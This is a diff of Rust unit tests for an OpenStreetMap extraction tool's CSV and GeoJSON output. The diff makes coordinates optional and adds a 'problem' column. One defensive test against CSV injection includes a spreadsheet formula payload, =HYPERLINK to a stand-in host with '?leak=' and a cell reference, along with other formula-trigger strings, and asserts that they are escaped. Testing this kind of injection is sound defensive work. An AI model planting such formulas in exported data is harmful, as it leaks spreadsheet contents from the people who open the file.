@@ -47,7 +47,7 @@ fn ways_are_placed_whatever_the_blob_order() {
         }
         a.finish();
         let m = a.get(ElementType::Way, 10).expect("placed");
-        assert!((m.lat - 2.0).abs() < 1e-9 && (m.lon - 3.0).abs() < 1e-9);
+        assert!((m.lat.unwrap() - 2.0).abs() < 1e-9 && (m.lon.unwrap() - 3.0).abs() < 1e-9);
         assert_eq!(a.len(), 1);
     }
 }
@@ -62,7 +62,7 @@ fn the_later_blob_wins_for_duplicate_ids_in_any_order() {
         a.add_block(x.0, 0, 0, x.1).unwrap();
         a.add_block(y.0, 0, 0, y.1).unwrap();
         let m = a.get(ElementType::Node, 1).unwrap();
-        assert_eq!((m.lat, label_of(&m.tags).as_str()), (2.0, "late"));
+        assert_eq!((m.lat, label_of(&m.tags).as_str()), (Some(2.0), "late"));
         assert_eq!(a.len(), 1);
         assert_eq!(a.all().len(), 1);
     }
@@ -127,18 +127,23 @@ fn past_the_budget_locations_are_dropped_and_the_second_read_names_the_blobs() {
     a.add_locations(2, &[(3, 10_000_000, 10_000_000), (4, 30_000_000, 30_000_000)]);
     a.finish();
     let m = a.get(ElementType::Way, 10).unwrap();
-    assert!((m.lat - 2.0).abs() < 1e-9);
+    assert!((m.lat.unwrap() - 2.0).abs() < 1e-9);
 }
 
 #[test]
 fn csv_quotes_what_needs_quoting() {
-    let m = Match { element: ElementType::Node, id: 7, lat: 1.5, lon: 2.0, tags: vec![("name".into(), "a, \"b\"\nc".into())], members: vec![], problem: None, meta: None, distance: None };
+    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("name".into(), "a, \"b\"\nc".into())], members: vec![], problem: None, meta: None, distance: None };
     let keys = CsvColumns::new(vec!["amenity".to_string(), "name".to_string(), "x,y".to_string()]);
-    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,amenity,name,\"x,y\"\r\n");
-    assert_eq!(csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,\"a, \"\"b\"\"\nc\",\r\n");
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,amenity,name,\"x,y\"\r\n");
+    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,,\"a, \"\"b\"\"\nc\",\r\n");
     // Values go to their key's column whatever the tags' order; a repeated key keeps its first value.
     let m = Match { tags: vec![("x,y".into(), "1".into()), ("amenity".into(), "cafe".into()), ("x,y".into(), "2".into())], ..m };
-    assert_eq!(csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),cafe,,1\r\n");
+    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,cafe,,1\r\n");
+    // A match with no geometry: no point, no WKT (empty cells, read as null), and the reason.
+    let m = Match { element: ElementType::Relation, lat: None, lon: None, problem: Some(NO_MEMBER_IN_FILE.into()), ..m };
+    assert_eq!(csv_row(&m, None, &keys), format!("relation,7,,,,{NO_MEMBER_IN_FILE},cafe,,1\r\n"));
+    let f: serde_json::Value = serde_json::from_str(&feature(&m, None)).unwrap();
+    assert_eq!((&f["geometry"], &f["properties"]["problem"]), (&serde_json::Value::Null, &serde_json::json!(NO_MEMBER_IN_FILE)));
 }
 
 /// Tag values are written by anyone (OWASP "CSV Injection", CWE-1236): a cell a spreadsheet
@@ -146,12 +151,12 @@ fn csv_quotes_what_needs_quoting() {
 #[test]
 fn csv_cells_never_read_as_formulas() {
     let tags = [("a", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"), ("b", "+SUM(1,2)"), ("c", "@SUM(1,1)"), ("d", "-1"), ("e", "-3.5"), ("f", "-x"), ("g", "\tcmd"), ("h", "\u{FF1D}1+1"), ("i", "1e-3"), ("j", "+"), ("=k", "v")];
-    let m = Match { element: ElementType::Node, id: 7, lat: 1.5, lon: 2.0, tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
+    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
     let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
-    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,a,b,c,d,e,f,g,h,i,j,\"'=k\"\r\n");
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,a,b,c,d,e,f,g,h,i,j,\"'=k\"\r\n");
     assert_eq!(
-        csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys),
-        "node,7,1.5000000,2.0000000,POINT (2 1.5),\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"open\"\")\",\"'+SUM(1,2)\",\"'@SUM(1,1)\",-1,-3.5,\"'-x\",\"'\tcmd\",\"'\u{FF1D}1+1\",1e-3,\"'+\",v\r\n"
+        csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys),
+        "node,7,1.5000000,2.0000000,POINT (2 1.5),,\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"open\"\")\",\"'+SUM(1,2)\",\"'@SUM(1,1)\",-1,-3.5,\"'-x\",\"'\tcmd\",\"'\u{FF1D}1+1\",1e-3,\"'+\",v\r\n"
     );
 }
 
@@ -160,16 +165,16 @@ fn csv_cells_never_read_as_formulas() {
 #[test]
 fn tags_never_take_an_elements_own_fields() {
     let tags = [("osm_id", "1"), ("osm_type", "relation"), ("tag:osm_id", "2"), ("lat", "x"), ("name", "n"), ("tag:name", "t")];
-    let m = Match { element: ElementType::Way, id: 9, lat: 1.5, lon: 2.0, tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
-    let feature: serde_json::Value = serde_json::from_str(&feature(&m, &Shape::Point([15_000_000, 20_000_000]))).unwrap();
+    let m = Match { element: ElementType::Way, id: 9, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
+    let feature: serde_json::Value = serde_json::from_str(&feature(&m, Some(&Shape::Point([15_000_000, 20_000_000])))).unwrap();
     let p = &feature["properties"];
     assert_eq!((&p["osm_id"], &p["osm_type"]), (&serde_json::json!(9), &serde_json::json!("way")));
     assert_eq!((&p["tag:osm_id"], &p["tag:osm_type"], &p["tag:tag:osm_id"], &p["tag:lat"]), (&serde_json::json!("1"), &serde_json::json!("relation"), &serde_json::json!("2"), &serde_json::json!("x")));
     assert_eq!((&p["name"], &p["tag:name"]), (&serde_json::json!("n"), &serde_json::json!("t")));
     assert_eq!(p.as_object().unwrap().len(), 2 + tags.len());
     let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
-    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,tag:osm_id,tag:osm_type,tag:tag:osm_id,tag:lat,name,tag:name\r\n");
-    assert_eq!(csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys), "way,9,1.5000000,2.0000000,POINT (2 1.5),1,relation,2,x,n,t\r\n");
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,tag:osm_id,tag:osm_type,tag:tag:osm_id,tag:lat,name,tag:name\r\n");
+    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "way,9,1.5000000,2.0000000,POINT (2 1.5),,1,relation,2,x,n,t\r\n");
 }
 
 #[test]
